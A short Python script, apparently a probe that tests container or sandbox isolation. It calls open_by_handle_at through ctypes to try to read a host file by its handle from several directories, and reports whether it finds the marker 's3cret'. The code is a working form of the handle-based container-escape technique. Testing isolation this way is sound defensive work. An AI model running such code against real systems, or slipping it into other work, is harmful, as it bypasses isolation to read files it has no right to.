"""Opens a file of the host's by its handle, from every directory that there is to start from."""

import ctypes
import os
import struct
import sys

kind, handle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
packed = ctypes.create_string_buffer(struct.pack("Ii", len(handle), kind) + handle)
for start in ("/", ".", "/tmp", "/etc", "/var", "/home", "/dev/null", "/usr"):
    opened = os.open(start, os.O_RDONLY)
    file = libc.open_by_handle_at(opened, packed, os.O_RDONLY)
    if file >= 0 and b"s3cret" in os.read(file, 100):
        print(f"opened from {start}")
print("tried everything")
